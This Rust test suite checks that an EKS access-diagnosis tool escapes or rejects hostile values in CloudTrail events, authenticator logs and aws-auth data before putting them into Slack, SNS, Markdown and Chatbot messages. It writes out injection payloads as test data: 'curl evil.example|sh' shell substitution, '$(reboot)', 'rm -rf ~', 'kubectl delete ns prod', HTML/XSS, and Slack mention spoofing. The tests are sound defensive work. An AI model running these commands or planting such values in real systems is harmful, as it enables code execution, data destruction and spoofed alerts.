//! The hostile-input suite: every row names an attack and its expected outcome,
//! escaped output, a named error or a deliberate skip. No row may panic, and
//! every rendering stays within Slack's and SNS's limits.

use crate::support::*;
use eks_access_doctor_core::escape::is_unsafe_char;
use eks_access_doctor_core::input::{parse_document, Parsed};
use eks_access_doctor_core::render::sns::MessageFormat;
use eks_access_doctor_core::render::{chatbot, markdown, slack, sns, text, Diagnosis};
use serde_json::{json, Value};

enum Expect {
    /// Diagnosed, and every format's safety checks pass; the Slack payload must
    /// not contain this raw string (Markdown and text are checked structurally).
    Escaped(&'static str),
    /// A named error containing this text.
    Error(&'static str),
    /// Deliberately skipped, with a reason containing this text.
    Skipped(&'static str),
}

/// A fixture with one request field replaced.
fn with(fixture: &str, pointer: &'static str, value: Value) -> Vec<u8> {
    let (parent, key) = pointer.rsplit_once('/').unwrap();
    edited_fixture(fixture, move |record| {
        let parent = if parent.is_empty() { record } else { record.pointer_mut(parent).unwrap_or_else(|| panic!("{pointer}")) };
        parent[key] = value;
    })
}

fn rows() -> Vec<(&'static str, Vec<u8>, Expect)> {
    let long = "A".repeat(200_000);
    vec![
        (
            "<!channel> in a username",
            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:<!channel> please run")),
            Expect::Escaped("<!channel>"),
        ),
        (
            "<!here> in a group name",
            with("unbound-kubernetes-group.json", "/requestParameters/kubernetesGroups", json!(["<!here>", "ops"])),
            Expect::Escaped("<!here>"),
        ),
        (
            "<@U123> in a principal ARN",
            with("invalid-principal.json", "/requestParameters/principalArn", json!("arn:aws:iam::111122223333:role/<@U123>")),
            Expect::Escaped("<@U123>"),
        ),
        (
            "a Slack link in the cluster name",
            with("access-entry-already-exists.json", "/requestParameters/name", json!("<https://evil.example|click here>")),
            Expect::Escaped("<https://evil.example"),
        ),
        (
            "a Markdown link in the error message",
            with("unclassified.json", "/errorMessage", json!("[click](https://evil.example) ![x](https://evil.example/p.png)")),
            Expect::Escaped(""),
        ),
        (
            "HTML in a username",
            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:<img src=x onerror=alert(1)>")),
            Expect::Escaped("<img"),
        ),
        (
            "backticks closing a code block",
            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:```\n*fake* `x`")),
            Expect::Escaped("```\n*fake*"),
        ),
        (
            "newlines forging fields",
            with("reserved-group-prefix.json", "/requestParameters/kubernetesGroups", json!(["system:masters\n*Cluster*\nprod-eu"])),
            Expect::Escaped("\n*Cluster*\nprod-eu"),
        ),
        (
            "zero-width characters",
            with("unbound-kubernetes-group.json", "/requestParameters/kubernetesGroups", json!(["ad\u{200B}mins", "admins"])),
            Expect::Escaped("\u{200B}"),
        ),
        (
            "right-to-left override",
            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:\u{202E}nimda")),
            Expect::Escaped("\u{202E}"),
        ),
        (
            "a line separator in a username",
            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:admin\u{2028}kubectl delete ns prod")),
            Expect::Escaped("\u{2028}"),
        ),
        (
            "a paragraph separator in a username",
            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:admin\u{2029}kubectl delete ns prod")),
            Expect::Escaped("\u{2029}"),
        ),
        (
            "a tag character in a username",
            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:admin\u{E0041}\u{E007F}")),
            Expect::Escaped("\u{E0041}"),
        ),
        (
            "terminal escape sequences",
            with("unclassified.json", "/errorMessage", json!("\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}")),
            Expect::Escaped("\u{1b}"),
        ),
        (
            "shell substitution in a username",
            with("reserved-username-prefix.json", "/requestParameters/username", json!("system:$(curl evil.example|sh)")),
            Expect::Escaped("--username $(curl"),
        ),
        (
            "a 200 000-character cluster name",
            with("access-entries-disabled.json", "/requestParameters/name", json!(long.clone())),
            Expect::Escaped(""),
        ),
        ("a 200 000-character error message", with("unclassified.json", "/errorMessage", json!(long)), Expect::Escaped("")),
        (
            "a 10 MB username",
            with("reserved-username-prefix.json", "/requestParameters/username", json!(format!("system:{}", "x".repeat(10 << 20)))),
            Expect::Escaped(""),
        ),
        (
            "JSON nested 10 000 deep",
            format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes(),
            Expect::Error("nested JSON arrays"),
        ),
        (
            "invalid UTF-8 in a log file",
            b"{\"Records\":[{\"eventSource\":\"eks.amazonaws.com\",\"eventName\":\"\xc3\x28\"}]}".to_vec(),
            Expect::Error("not UTF-8"),
        ),
        (
            "a number where a string belongs",
            with("reserved-group-prefix.json", "/requestParameters/username", json!(12345)),
            Expect::Error("requestParameters.username: invalid type: integer"),
        ),
        (
            "an object where a list belongs",
            with("reserved-group-prefix.json", "/requestParameters/kubernetesGroups", json!({"a": 1})),
            Expect::Error("requestParameters.kubernetesGroups: invalid type: map"),
        ),
        (
            "duplicated keys",
            br#"{"eventSource":"eks.amazonaws.com","eventName":"CreateAccessEntry","eventName":"DeleteAccessEntry","eventID":"x"}"#
                .to_vec(),
            Expect::Error("duplicate field `eventName`"),
        ),
        (
            "an eventSource that lies about the envelope",
            with("reserved-group-prefix.json", "/eventSource", json!("s3.amazonaws.com")),
            Expect::Skipped("disagrees with the record's eventSource"),
        ),
        (
            "an EKS-looking record from another service",
            edited_fixture("reserved-group-prefix.json", |r| r["eventSource"] = json!("eks.amazonaws.com.evil.example")),
            Expect::Skipped("not an EKS event"),
        ),
    ]
}

fn assert_safe(name: &str, d: &Diagnosis, forbidden: &str) {
    let invisible = |c: char| c != '\n' && is_unsafe_char(c);
    let plain = text::render(d, false);
    assert!(!plain.chars().any(invisible), "{name}: text has a control or invisible character");
    let md = markdown::render(d);
    assert!(!md.chars().any(invisible), "{name}: markdown has a control or invisible character");
    for (i, _) in md.match_indices('<') {
        let escaped = i > 0 && md.as_bytes()[i - 1] == b'\\';
        let our_link = md[i..].starts_with("<https://docs.aws.amazon.com/") || md[i..].starts_with("<https://repost.aws/");
        let in_code = md[..i].matches("```").count() % 2 == 1;
        assert!(escaped || our_link || in_code, "{name}: raw '<' in markdown prose at {i}");
    }
    for (i, _) in md.match_indices("](") {
        let in_code = md[..i].matches("```").count() % 2 == 1;
        assert!(in_code || md.as_bytes()[i - 1] == b'\\', "{name}: a Markdown link survives at {i}");
    }
    for f in &d.findings {
        let payload = serde_json::to_value(slack::payload(d, f)).unwrap();
        let blocks = payload["blocks"].as_array().unwrap();
        assert!(blocks.len() <= 50, "{name}");
        for block in blocks {
            if let Some(t) = block["text"]["text"].as_str() {
                let limit = if block["type"] == "header" { slack::HEADER_LIMIT } else { slack::SECTION_LIMIT };
                assert!(t.chars().count() <= limit, "{name}: block over {limit}");
                assert!(t.matches("```").count() % 2 == 0, "{name}: unbalanced code fence in {t:?}");
            }
            for field in block["fields"].as_array().into_iter().flatten() {
                assert!(field["text"].as_str().unwrap().chars().count() <= slack::FIELD_LIMIT, "{name}");
            }
        }
        let all_text = payload.to_string();
        for (i, _) in all_text.match_indices('<') {
            assert!(
                all_text[i..].starts_with("<https://docs.aws.amazon.com/") || all_text[i..].starts_with("<https://repost.aws/"),
                "{name}: raw '<' in Slack payload: {}",
                &all_text[i..(i + 40).min(all_text.len())]
            );
        }
        assert!(!all_text.chars().any(|c| invisible(c) && c != '\n'), "{name}: slack has an invisible character");
        let message = sns::message(d, f, MessageFormat::Text);
        assert!(
            message.subject.len() < 100 && message.subject.chars().all(|c| c.is_ascii_graphic() || c == ' '),
            "{name}: subject {:?}",
            message.subject
        );
        assert!(message.message.len() <= sns::MESSAGE_LIMIT, "{name}: SNS message too long");
        assert!(!message.message.chars().any(invisible), "{name}: SNS message has a control character");
        for value in message.attributes.values() {
            assert!(!value.is_empty() && !value.contains('\n') && value.chars().count() <= 256, "{name}: attribute {value:?}");
        }
        if !forbidden.is_empty() {
            assert!(!all_text.contains(forbidden), "{name}: Slack payload contains {forbidden:?}");
        }
        assert_chatbot_safe(name, d, f, forbidden);
    }
}

/// The labels the Chatbot description writes in bold; any other `*` in its prose came from a value.
const CHATBOT_LABELS: &[&str] =
    &["*Cluster*", "*Principal*", "*Caller*", "*Call*", "*Region*", "*Time*", "*Event*", "*Commands*", "*Minimal IAM policy*", "*Note*"];

/// What a Chatbot client would read as markup in a notification: each backtick toggles
/// code (escaped values have none), so the even pieces are prose, the odd ones code.
/// Prose holds no markup but ours (bold labels, the docs link); code holds no `<` (a
/// Slack control sequence), and a fact's code span no line break. The facts are one
/// line each, so no value forged one. Every text is within its documented limit.
fn assert_chatbot_safe(name: &str, d: &Diagnosis, f: &eks_access_doctor_core::finding::Finding, forbidden: &str) {
    let n: Value = serde_json::from_str(&chatbot::notification(d, f).to_json()).unwrap();
    let (content, metadata) = (&n["content"], &n["metadata"]);
    let description = content["description"].as_str().unwrap();
    let link = format!("<{}|AWS documentation>", f.cause.docs);
    let strings = |v: &Value| v.as_array().into_iter().flatten().map(|s| s.as_str().unwrap().to_string()).collect::<Vec<_>>();
    let mut prose: Vec<String> = description.split('`').step_by(2).map(|p| p.replace(&link, "")).collect();
    prose.extend([content["title"].as_str().unwrap().to_string(), metadata["summary"].as_str().unwrap().to_string()]);
    prose.extend(
        strings(&content["nextSteps"]).into_iter().chain(strings(&content["keywords"])).chain(strings(&metadata["relatedResources"])),
    );
    prose.extend(metadata["additionalContext"].as_object().unwrap().values().map(|v| v.as_str().unwrap().to_string()));
    for text in &prose {
        let bare = CHATBOT_LABELS.iter().fold(text.clone(), |t, label| t.replace(label, ""));
        for markup in ["<", ">", "&", "*", "~", "`", "]("] {
            assert!(!bare.contains(markup), "{name}: {markup:?} in Chatbot prose {text:?}");
        }
        let chars: Vec<char> = bare.chars().collect();
        for (i, c) in chars.iter().enumerate() {
            let word = |j: Option<usize>| j.and_then(|j| chars.get(j)).is_some_and(|c| c.is_alphanumeric());
            assert!(*c != '_' || (word(i.checked_sub(1)) && word(Some(i + 1))), "{name}: '_' outside a word in {text:?}");
            assert!(*c != '@' || word(i.checked_sub(1)), "{name}: a mention in {text:?}");
            assert!(*c == '\n' || !is_unsafe_char(*c), "{name}: U+{:04X} in Chatbot prose", *c as u32);
        }
        if !forbidden.is_empty() {
            assert!(!text.contains(forbidden), "{name}: Chatbot prose contains {forbidden:?}");
        }
    }
    for code in description.split('`').skip(1).step_by(2) {
        assert!(!code.contains('<') && !code.chars().any(|c| c != '\n' && is_unsafe_char(c)), "{name}: Chatbot code {code:?}");
    }
    let facts = description.split("\n\n").next().unwrap();
    assert_eq!(facts.lines().count(), d.fields().len() + 1, "{name}: a value forged a fact line:\n{facts}");
    assert!(
        facts.lines().all(|l| CHATBOT_LABELS.iter().any(|label| l.starts_with(&format!("{label} `")) && l.ends_with('`'))),
        "{name}: {facts}"
    );
    let count = |v: &Value| v.as_str().unwrap().chars().count();
    assert!(count(&content["title"]) <= chatbot::TITLE_LIMIT && description.chars().count() <= chatbot::DESCRIPTION_LIMIT, "{name}");
    assert!(content["nextSteps"].as_array().into_iter().flatten().all(|s| count(s) <= chatbot::NEXT_STEP_LIMIT), "{name}");
    assert!(content["keywords"].as_array().unwrap().iter().all(|k| count(k) <= chatbot::KEYWORD_LIMIT), "{name}");
}

#[test]
fn every_hostile_input_gets_a_clear_outcome() {
    let rows = rows();
    for (name, bytes, expect) in &rows {
        let records = parse_document(bytes);
        assert_eq!(records.len(), 1, "{name}");
        match (&records[0].outcome, expect) {
            (Ok(Parsed::Event(event)), Expect::Escaped(forbidden)) => {
                let d = diagnose((**event).clone());
                assert!(!d.findings.is_empty(), "{name}: no finding");
                assert_safe(name, &d, forbidden);
            }
            (Err(e), Expect::Error(want)) => assert!(e.contains(want), "{name}: {e}"),
            (Ok(Parsed::Ignored { why, .. }), Expect::Skipped(want)) => assert!(why.reason().contains(want), "{name}: {}", why.reason()),
            (other, _) => panic!("{name}: unexpected outcome {other:?}"),
        }
    }
    eprintln!("hostile inputs tried: {}", rows.len());
}

// U+2028/U+2029 end a line in many terminals and editors, and tag characters are
// invisible: in a username they reached the terminal raw inside a suggested command.
#[test]
fn separators_and_tags_in_a_username_are_escaped_in_the_suggested_command() {
    for (c, escaped) in [('\u{2028}', "\\u{2028}"), ('\u{2029}', "\\u{2029}"), ('\u{E0041}', "\\u{e0041}")] {
        let bytes = with("reserved-username-prefix.json", "/requestParameters/username", json!(format!("system:admin{c}jdoe")));
        let records = parse_document(&bytes);
        let Ok(Parsed::Event(event)) = &records[0].outcome else { panic!("U+{:04X}: {:?}", c as u32, records[0].outcome) };
        let d = diagnose((**event).clone());
        let plain = text::render(&d, false);
        assert!(!plain.contains(c), "U+{:04X} raw in text:\n{plain}", c as u32);
        let command = plain.lines().find(|l| l.contains("--username")).unwrap_or_else(|| panic!("no --username command:\n{plain}"));
        assert!(command.contains(&format!("admin{escaped}jdoe")), "{command}");
        for f in &d.findings {
            let markdown = markdown::render(&d);
            let slack = serde_json::to_string(&slack::payload(&d, f)).unwrap();
            let sns = sns::message(&d, f, MessageFormat::Text).message;
            for (format, out) in [("markdown", &markdown), ("slack", &slack), ("sns", &sns)] {
                assert!(!out.contains(c), "U+{:04X} raw in {format}:\n{out}", c as u32);
                assert!(out.contains(escaped), "U+{:04X} not shown escaped in {format}:\n{out}", c as u32);
            }
        }
    }
}

/// Chat markup in values reaches a Chatbot channel as text: in prose each sequence is
/// swapped for look-alikes, in code only what ends the code or starts a Slack control
/// sequence; a line break never forges a fact.
#[test]
fn chat_markup_in_values_reaches_chatbot_as_text() {
    let markup = "system:*ping* _it_ ~gone~ @here <!channel> <https://evil.example|x> [l](https://evil.example) `x`\n*Cluster* `prod`";
    for (fixture, pointer) in [
        ("reserved-username-prefix.json", "/requestParameters/username"),
        ("access-entry-already-exists.json", "/requestParameters/name"),
        ("unclassified.json", "/errorMessage"),
    ] {
        let records = parse_document(&with(fixture, pointer, json!(markup)));
        let Ok(Parsed::Event(event)) = &records[0].outcome else { panic!("{fixture}: {:?}", records[0].outcome) };
        let d = diagnose((**event).clone());
        assert!(!d.findings.is_empty(), "{fixture}");
        for f in &d.findings {
            for raw in ["*ping*", "_it_", "~gone~", " @here", "<!channel>", "<https://evil", "](https", "`x`"] {
                assert_chatbot_safe(fixture, &d, f, raw);
            }
            let json = chatbot::notification(&d, f).to_json();
            assert!(json.contains("∗ping∗"), "{fixture}: the value is not shown at all: {json}");
        }
    }
}

/// Values read from the cluster are as hostile as the event's: group names in the
/// bindings and the request, and the `aws-auth` ConfigMap's ARNs, usernames and groups
/// reach every format escaped, and every command quoted.
#[test]
fn hostile_values_from_the_cluster_are_escaped() {
    use eks_access_doctor_core::facts::{AwsAuthFacts, Facts, Lookup};
    use eks_access_doctor_core::kubernetes::{AwsAuth, Binding};
    let event = |fixture: &str, edit: Option<(&'static str, Value)>| {
        let bytes = match edit {
            Some((pointer, value)) => with(fixture, pointer, value),
            None => fixture_text(fixture).into_bytes(),
        };
        let records = parse_document(&bytes);
        let Ok(Parsed::Event(event)) = &records[0].outcome else { panic!("{:?}", records[0].outcome) };
        (**event).clone()
    };
    let bindings = vec![Binding {
        kind: "ClusterRoleBinding".into(),
        namespace: Some("ns\u{202e}gnp".into()),
        name: "<!here>`x`".into(),
        role: "ClusterRole/[a](https://evil.example)".into(),
        groups: vec!["platform-admins<!channel>".into(), "ops\n*bold*".into()],
        users: vec![],
    }];
    let groups = json!(["platform-admins<!channel", "ops\n*bold", "\u{2028}x", "<@U0123>"]);
    let d = eks_access_doctor_core::diagnose(
        event("group-not-bound.json", Some(("/requestParameters/kubernetesGroups", groups))),
        &Facts { bindings: Lookup::Found(bindings), ..Facts::default() },
    );
    assert_eq!(d.findings[0].cause.id, "group-not-bound");
    assert_safe("hostile bindings", &d, "<!channel>");

    let map_roles = "- rolearn: \"arn:aws:iam::111122223333:role/x<!here>\"\n  username: \"<!channel>\\u2028$(reboot)\"\n  groups: [\"`rm -rf ~`\", \"<@U0123>\", \"-x\"]\n";
    let map_users = "- userarn: \"arn:aws:iam::111122223333:user/a\\nb\"\n  username: \"[link](https://evil.example)\"\n";
    let data = std::collections::BTreeMap::from([
        ("mapRoles".to_string(), map_roles.to_string()),
        ("mapUsers".to_string(), map_users.to_string()),
    ]);
    let facts = Facts {
        aws_auth: Lookup::Found(AwsAuthFacts { config_map: Some(AwsAuth::parse(&data)), ..AwsAuthFacts::default() }),
        ..Facts::default()
    };
    let d = eks_access_doctor_core::diagnose(event("aws-auth-principal-loses-access.json", None), &facts);
    assert_eq!(d.findings[0].cause.id, "aws-auth-principal-loses-access");
    assert_eq!(
        d.findings[0].commands.iter().filter(|c| c.starts_with("aws eks create-access-entry")).count(),
        2,
        "{:?}",
        d.findings[0].commands
    );
    assert!(
        d.findings[0].commands.iter().any(|c| c.contains(r#"--kubernetes-groups='["`rm -rf ~`","<@U0123>","-x"]'"#)),
        "{:?}",
        d.findings[0].commands
    );
    assert_safe("hostile aws-auth", &d, "<!here>");
}

/// An authenticator `access granted` line is as hostile as any log line: its role name,
/// username and groups (Go-quoted, escapes and all) reach every format escaped and every
/// command quoted, against bindings as hostile.
#[test]
fn hostile_values_of_a_granted_line_are_escaped() {
    use eks_access_doctor_core::facts::{Facts, Lookup};
    use eks_access_doctor_core::kubernetes::Binding;
    let line = r#"time="2026-11-29T09:12:44Z" level=info msg="access granted" arn="arn:aws:iam::111122223333:role/x<!here>" client="127.0.0.1:51880" groups="[platform-admins<!channel $(reboot) `id` \u2028x <@U0123> -x system:masters]" method=POST path=/authenticate uid="aws-iam-authenticator:111122223333:AROA" username="<!channel>\n*bold*""#;
    let message = json!({
        "messageType": "DATA_MESSAGE", "owner": "111122223333", "logGroup": "/aws/eks/payments-prod/cluster",
        "logStream": "authenticator-0", "subscriptionFilters": ["f"],
        "logEvents": [{"id": "1", "timestamp": 1_795_900_000_000u64, "message": line}],
    });
    let records = parse_document(message.to_string().as_bytes());
    let Ok(Parsed::Event(event)) = &records[0].outcome else { panic!("{:?}", records[0].outcome) };
    let bindings = vec![Binding {
        kind: "ClusterRoleBinding".into(),
        namespace: None,
        name: "<!here>`x`".into(),
        role: "ClusterRole/[a](https://evil.example)".into(),
        groups: vec!["platform-admins<!channel>".into(), "$(reboot)x".into()],
        users: vec![],
    }];
    let d = eks_access_doctor_core::diagnose((**event).clone(), &Facts { bindings: Lookup::Found(bindings), ..Facts::default() });
    assert_eq!(d.findings[0].cause.id, "group-not-bound");
    let commands = d.findings[0].commands.join("\n");
    assert!(commands.contains("--group '$(reboot)' group-reboot"), "{commands}");
    assert!(commands.contains("--group '`id`' group-id"), "{commands}");
    assert!(!d.findings[0].explanation.contains("system:masters"), "{}", d.findings[0].explanation);
    assert_safe("hostile granted line", &d, "<!channel>");
}
